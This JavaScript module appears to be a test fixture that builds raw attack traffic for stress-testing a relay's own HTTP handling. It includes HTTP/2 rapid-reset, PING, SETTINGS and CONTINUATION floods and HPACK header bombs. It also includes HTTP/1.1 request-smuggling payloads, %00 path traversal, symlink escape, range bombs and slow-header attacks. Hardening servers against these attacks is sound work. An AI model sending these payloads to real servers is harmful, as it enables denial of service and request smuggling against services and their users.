// attacks.js -- what a hostile client sends, as octets that are ready to be sent.
//
//   ATTACKS   { 'PING flood': { texts: [{ head, body }], end, deaf, single, connections, tls }, … }
//
// A connection sends `head` once and then `body`, again and again (end: 'loop'), or once, after which it
// is closed, reset, or kept until the relay ends it ('close', 'reset', 'wait'). Several texts take turns. The paths
// are those of attack.js: /state is a document, /small, /big (30 MB) and /link (a symlink out of the
// directory) are files.

import { CODE, PREFACE, TYPE, block, frame, get, request, settings, uint32 } from '../../tests/lib/h2raw.js';

const MANY = 20_000;
const concat = (count, make) => Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const id = (i) => 2 * i + 1;

// --- HTTP/2 -------------------------------------------------------------------------------------

const greet = (entries = {}) => Buffer.concat([PREFACE, settings({ 1: 0, ...entries }), frame({ type: TYPE.SETTINGS, flags: 1 })]);
const headers = (stream, fields, flags = 5) => frame({ type: TYPE.HEADERS, flags, id: stream, payload: Buffer.isBuffer(fields) ? fields : block(fields) });
const data = (stream, payload, flags = 0) => frame({ type: TYPE.DATA, flags, id: stream, payload });
const rst = (stream, code = CODE.CANCEL) => frame({ type: TYPE.RST_STREAM, id: stream, payload: uint32(code) });
const update = (stream, by) => frame({ type: TYPE.WINDOW_UPDATE, id: stream, payload: uint32(by) });
const live = [['accept', 'text/event-stream']];

// Streams of one connection, each begun and spoilt by what make(its id) returns.
const spoilt = (make, entries) => ({ texts: [{ head: greet(entries), body: concat(MANY, (i) => make(id(i))) }], end: 'close' });

// The same frame for ever, beside a POST that goes on.
const flood = (one, { begin = Buffer.alloc(0), ...more } = {}) => ({
  texts: [{ head: Buffer.concat([greet(), headers(1, request('POST', '/state'), 4), begin]), body: concat(2000, () => one) }], end: 'loop', ...more,
});
const ping = frame({ type: TYPE.PING, payload: Buffer.alloc(8) });

// A field of 4,000 octets that goes into the dynamic table, and 12,000 references to it.
const indexed = Buffer.concat([Buffer.from([0x40, 1, 0x61, 127, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)]);
const references = Buffer.alloc(12_000, 0xbe);
const continuation = (payload, flags = 0) => frame({ type: TYPE.CONTINUATION, id: 1, flags, payload });

const HTTP2 = {
  'rapid reset': spoilt((stream) => Buffer.concat([headers(stream, get('/state')), rst(stream)])),
  'rapid reset, streams': spoilt((stream) => Buffer.concat([headers(stream, get('/state', live)), rst(stream)])),
  'made-you-reset, window': spoilt((stream) => Buffer.concat([headers(stream, get('/state')), update(stream, 0x7fffffff)])),
  'made-you-reset, length': spoilt((stream) => Buffer.concat([headers(stream, request('POST', '/state', [['content-length', '5']]), 4), data(stream, Buffer.from('x'), 1)])),
  'made-you-reset, capitals': spoilt((stream) => headers(stream, get('/state', [['Bad', 'x']]))),
  'made-you-reset, no :path': spoilt((stream) => headers(stream, [[':method', 'GET'], [':scheme', 'http']])),
  'made-you-reset, connection': spoilt((stream) => headers(stream, get('/state', [['connection', 'close']]))),
  'window-update abort': spoilt((stream) => Buffer.concat([headers(stream, get('/state', live)), update(stream, 0x7fffffff), update(stream, 1)]), { 4: 0x7fffffff }),
  'PING flood': flood(ping),
  'PING flood, unread': flood(ping, { deaf: true }),
  'SETTINGS flood': flood(settings({ 4: 65535 })),
  'SETTINGS flood, unread': flood(settings({ 4: 65535 }), { deaf: true }),
  'empty DATA flood': flood(data(1, Buffer.alloc(0))),
  'padded DATA flood': flood(data(1, Buffer.from([2, 65, 0, 0]), 8)),
  'PRIORITY flood': flood(frame({ type: TYPE.PRIORITY, id: 3, payload: Buffer.alloc(5) })),
  'WINDOW_UPDATE flood': flood(Buffer.concat([update(0, 1), update(1, 1)])),
  'unknown frames': flood(frame({ type: 0x77, id: 1, payload: Buffer.from('x') })),
  'RST_STREAM flood': flood(rst(1), { begin: rst(1) }),
  'CONTINUATION, empty': { texts: [{ head: Buffer.concat([greet(), headers(1, get('/x'), 1)]), body: concat(2000, () => continuation(Buffer.alloc(0))) }], end: 'loop' },
  'CONTINUATION, full': { texts: [{ head: Buffer.concat([greet(), headers(1, get('/x'), 1)]), body: concat(100, (i) => continuation(block([[`x-${i}`, 'y'.repeat(8000)]]))) }], end: 'loop' },
  'CONTINUATION after GOAWAY': { texts: [{ head: Buffer.concat([greet(), headers(1, get('/state', live), 5), headers(3, get('/x'), 1), update(0, 1)]), body: concat(2000, () => continuation(Buffer.alloc(0))) }], end: 'loop' },
  'header bomb': { texts: [{ head: greet(), body: concat(100, (i) => headers(id(i), Buffer.concat([block(get('/x')), i === 0 ? indexed : Buffer.alloc(0), references]))) }], end: 'wait' },
  'header bomb, CONTINUATION': { texts: [{ head: greet(), body: Buffer.concat([headers(1, Buffer.concat([block(get('/x')), indexed]), 1), concat(4, () => continuation(references)), continuation(references, 4)]) }], end: 'wait' },
  'header bomb, trailers': { texts: [{ head: greet(), body: Buffer.concat([headers(1, Buffer.concat([block(request('POST', '/state')), indexed]), 4), headers(1, references)]) }], end: 'wait' },
  '1,000 streams at once': { texts: [{ head: greet(), body: concat(1000, (i) => headers(id(i), get('/state', live))) }], end: 'close' },
  'zero windows': { texts: [{ head: greet({ 4: 0 }), body: concat(100, (i) => headers(id(i), get('/big'))) }], end: 'wait' },
  'preface by single octets': { texts: [{ head: PREFACE, body: Buffer.alloc(0) }], end: 'close', single: true, connections: 100 },
  'a connection by single octets': { texts: [{ head: greet(), body: concat(1000, () => ping) }], end: 'close', single: true },
};

// --- HTTP/1.1 -----------------------------------------------------------------------------------

const ask = (path, more = '') => `GET ${path} HTTP/1.1\r\nHost: x\r\n${more}\r\n`;
const post = (more, body = '') => `POST /state HTTP/1.1\r\nHost: x\r\n${more}\r\n\r\n${body}`;
const texts = (...all) => all.map((text) => ({ head: Buffer.alloc(0), body: Buffer.from(text, 'latin1') }));
const noise = (seed) => String.fromCharCode(...Array.from({ length: 300 }, (_, k) => (k * 7919 + seed * 104729) % 256));

const HTTP1 = {
  'smuggling': {
    texts: texts(
      post('Content-Length: 4\r\nTransfer-Encoding: chunked', `0\r\n\r\n${ask('/state')}`), post('Content-Length: 0\r\nContent-Length: 40', ask('/state')),
      post('Transfer-Encoding: xchunked', `0\r\n\r\n${ask('/state')}`), 'POST /state HTTP/1.1\nHost: x\nContent-Length: 0\n\n', post('X: a\r\n Content-Length: 2', '{}')),
    end: 'wait',
  },
  '%00': { texts: texts(ask('/small%00').repeat(500), ask('/%00/../small').repeat(500)), end: 'loop' },
  'symlinks': { texts: texts(ask('/link').repeat(500)), end: 'loop' },
  '2,000 ranges': { texts: texts(ask('/small', `Range: bytes=${Array.from({ length: 2000 }, (_, i) => `${i}-`).join(',')}\r\n`)), end: 'loop' },
  '2,000 ranges, 30 MB': { texts: texts(ask('/big', `Range: bytes=${Array.from({ length: 2000 }, (_, i) => `${i}-`).join(',')}\r\n`)), end: 'loop' },
  'heads that never end': { texts: texts(`GET / HTTP/1.1\r\nX: ${'y'.repeat(60_000)}`), end: 'wait', connections: 200 },
  'heads of 200 kB': { texts: texts(`GET / HTTP/1.1\r\nX: ${'y'.repeat(200_000)}`), end: 'wait' },
  'heads by single octets': { texts: texts(ask('/small')), end: 'loop', single: true },
  'requests, unread': { texts: texts(ask('/state').repeat(2000)), end: 'close', deaf: true },
  'requests, reset': { texts: texts(ask('/state')), end: 'reset' },
  'streams, reset': { texts: texts(ask('/state', 'Accept: text/event-stream\r\n')), end: 'reset' },
  'downloads, unread': { texts: texts(ask('/big')), end: 'wait', deaf: true, connections: 200 },
  'chunks of one octet': { texts: [{ head: Buffer.from(post('Transfer-Encoding: chunked')), body: Buffer.from('1;extension\r\ny\r\n'.repeat(5000)) }], end: 'loop' },
  'bodies of 16 MB': { texts: texts(post('Content-Length: 16000000', 'y'.repeat(15_999_999))), end: 'wait' },
  'no HTTP': { texts: texts(...[1, 2, 3, 4, 5].map(noise)), end: 'wait' },
  'connections, reset': { texts: texts(''), end: 'reset', connections: 100 },
};

export const ATTACKS = { ...HTTP2, ...HTTP1 };
